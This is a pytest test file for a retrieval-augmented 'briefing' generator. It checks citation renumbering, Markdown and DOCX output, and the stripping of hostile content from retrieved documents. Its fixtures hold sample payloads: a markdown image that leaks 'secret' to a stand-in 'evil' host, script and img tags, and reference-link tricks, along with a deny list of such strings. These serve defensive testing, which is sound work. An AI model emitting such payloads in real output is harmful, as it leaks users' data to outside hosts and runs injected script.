"""Briefing notes: global renumbering, positions, not-found answers, hostile document content, DOCX output."""
from __future__ import annotations

import re
from datetime import date

import pytest

from rag.app.briefing import MARKER, build, neutralise, to_docx, to_markdown
from rag.model import Answer, Citation, Position

TODAY = date(2024, 3, 5)
HOSTILE = "Detention is widespread. ![x](http://evil/?q=secret) <script>alert('pwn')</script> See [the report](http://evil/track)."


def cite(n, doc, label, text, quote=None, page=None, section=None, pid="", title=None):
    return Citation(n=n, doc=doc, title=title or f"{doc.title()} report", label=label, page=page, section=section,
                    text=text, quote=quote, paragraph_id=pid)


SHARED_TEXT = "The committee recommends an independent inquiry into the camps."


@pytest.fixture
def answers():
    a1 = Answer(
        question="What did the committee recommend?",
        answer="It recommended an inquiry [2]. Hostile text was also cited [1].",
        found=True,
        citations=[
            cite(1, "ngo", "4", HOSTILE, page=2, section="Detention <b>centres</b>"),
            cite(2, "committee", "12", SHARED_TEXT, quote="The committee recommends an independent inquiry.",
                 page=7, section="Recommendations", pid="committee-0012"),
        ],
    )
    a2 = Answer(
        question="Do the sources agree on an inquiry?",
        answer="The committee wants one [1], the government rejects it [2, 1].",
        found=True,
        citations=[
            cite(1, "committee", "12", SHARED_TEXT, page=7, section="Recommendations", pid="committee-0012"),
            cite(2, "government", "3(b)", "The government considers an inquiry unnecessary. " + "Filler words. " * 40),
        ],
        disagreement=True,
        positions=[
            Position(holder="The committee", summary="Calls for an independent inquiry.", citations=[1], date="2021"),
            Position(holder="The government", summary="Rejects an inquiry.", citations=[2], stance="undermines",
                     says="says there should be no inquiry"),
        ],
    )
    a3 = Answer(question="What is the budget for 2030?", answer="The documents do not say.", found=False)
    return [a1, a2, a3]


def test_renumbering_shares_one_number(answers):
    b = build(answers, today=TODAY)
    assert [(s.number, s.doc, s.label) for s in b.sources] == [(1, "committee", "12"), (2, "ngo", "4"),
                                                               (3, "government", "3(b)")]
    s1, s2, s3 = b.sections
    assert s1.paragraphs == ["It recommended an inquiry [1]. Hostile text was also cited [2]."]
    assert s2.paragraphs == ["The committee wants one [1], the government rejects it [3][1]."]
    # every marker names a listed source
    numbers = {s.number for s in b.sources}
    for s in b.sections:
        for p in s.paragraphs:
            for group in MARKER.findall(p):
                assert {int(n) for n in group.split(",")} <= numbers
    assert [q.number for q in s1.quotes] == [1, 2]  # in number order
    assert [q.number for q in s2.quotes] == [1, 3]


def test_key_by_doc_and_label_without_paragraph_id():
    c = dict(doc="d", label="5", text="Same paragraph.")
    a1 = Answer("q1", "One [1].", True, [cite(1, **c)])
    a2 = Answer("q2", "Two [1].", True, [cite(1, **c)])
    b = build([a1, a2])
    assert len(b.sources) == 1
    assert b.sections[1].paragraphs == ["Two [1]."]


def test_unknown_marker_dropped():
    a = Answer("q", "Claim [1] and ghost [9].", True, [cite(1, "d", "1", "t")])
    assert build([a]).sections[0].paragraphs == ["Claim [1] and ghost ."]


def test_markdown_layout(answers):
    md = to_markdown(answers, title="China brief", today=TODAY)
    assert md.startswith("# China brief\n")
    assert "5 March 2024" in md
    for q in ("What did the committee recommend?", "Do the sources agree on an inquiry?", "What is the budget for 2030?"):
        assert f"## {q}" in md
    assert "### Where the sources disagree" in md
    assert "- The committee (2021): Calls for an independent inquiry. [1]" in md
    assert "- The government says there should be no inquiry: Rejects an inquiry. [3]" in md
    assert md.count("### Where the sources disagree") == 1
    assert "**Not answered by the documents.**" in md
    assert "The documents do not say." in md
    assert "> **[1]** The committee recommends an independent inquiry." in md
    # the long paragraph with no quote is truncated
    gov = next(line for line in md.splitlines() if line.startswith("> **[3]**"))
    assert gov.endswith("…") and len(gov) < 340
    sources = md.split("## Sources", 1)[1]
    assert "- **[1]** Committee report, ¶12, p. 7, section: Recommendations" in sources
    assert "- **[2]** Ngo report, ¶4, p. 2, section: Detention centres" in sources
    assert "- **[3]** Government report, ¶3(b)" in sources and "p. None" not in sources
    assert len(re.findall(r"^- \*\*\[\d+\]\*\*", sources, re.M)) == 3
    # markers in the text all resolve to the sources list
    body = md.split("## Sources", 1)[0]
    listed = {int(n) for n in re.findall(r"^- \*\*\[(\d+)\]\*\*", sources, re.M)}
    assert {int(n) for n in re.findall(r"\[(\d+)\]", body)} <= listed


def assert_inert(text: str):
    for bad in ("evil", "secret", "<script", "script>", "alert", "![", "](", "<b>", "http"):
        assert bad not in text, bad


def test_hostile_content_neutralised_in_markdown(answers):
    md = to_markdown(answers, today=TODAY)
    assert_inert(md)
    assert "Detention is widespread." in md and "See the report." in md


@pytest.mark.parametrize("raw", [
    "![x](http://evil/?q=secret)",
    "!![x](http://evil/a.png)",
    "![![x](http://evil/a)](http://evil/b)",
    "<img src='http://evil/a.png'>",
    "<scr<script>ipt>alert(1)</script>",
    "<!-- <img src=http://evil> -->",
    "[a [b] c](http://evil/x)",
    "![ref][r]\n[r]: http://evil/x.png",
    "<http://evil/x>",
])
def test_neutralise_variants(raw):
    out = neutralise(raw)
    md = to_markdown([Answer("q", "a [1]", True, [cite(1, "d", "1", raw, quote=raw)])])
    for text in (out, md):
        assert "![" not in text and "](" not in text and "<img" not in text and "<script" not in text
        assert not re.search(r"^\s*>?\s*\[[^\]]*\]:", text, re.M)  # no reference definition survives


def test_docx(answers, tmp_path):
    docx = pytest.importorskip("docx")
    path = to_docx(answers, tmp_path / "out" / "brief.docx", title="China brief", today=TODAY)
    assert path.exists()
    doc = docx.Document(str(path))
    paras = doc.paragraphs
    text = "\n".join(p.text for p in paras)
    headings = [p.text for p in paras if p.style.name.startswith("Heading")]
    assert "What did the committee recommend?" in headings
    assert "Do the sources agree on an inquiry?" in headings
    assert "What is the budget for 2030?" in headings
    assert "Where the sources disagree" in headings and "Sources" in headings
    assert paras[0].text == "China brief"
    assert "5 March 2024" in text
    assert "It recommended an inquiry [1]. Hostile text was also cited [2]." in text
    assert "The government says there should be no inquiry: Rejects an inquiry. [3]" in text
    assert "Not answered by the documents." in text
    quotes = [p for p in paras if p.text.startswith("[1] The committee recommends")]
    assert quotes and quotes[0].style.name == "Quote"
    assert any(r.italic for r in quotes[0].runs)
    sources = text.split("\nSources\n", 1)[1]
    assert "[1] Committee report, ¶12, p. 7, section: Recommendations" in sources
    assert "[2] Ngo report, ¶4, p. 2, section: Detention centres" in sources
    assert "[3] Government report, ¶3(b)" in sources
    assert_inert(text)


def test_same_structure_for_both(answers, tmp_path):
    """Both renderers carry the same answer text, positions and sources."""
    import docx

    b = build(answers, today=TODAY)
    md = to_markdown(answers, today=TODAY)
    text = "\n".join(p.text for p in docx.Document(str(to_docx(answers, tmp_path / "b.docx", today=TODAY))).paragraphs)
    for s in b.sections:
        for p in s.paragraphs:
            assert p in md and p in text
        for pos in s.positions:
            assert pos.describe() in md and pos.describe() in text
    for src in b.sources:
        assert src.describe() in md and src.describe() in text
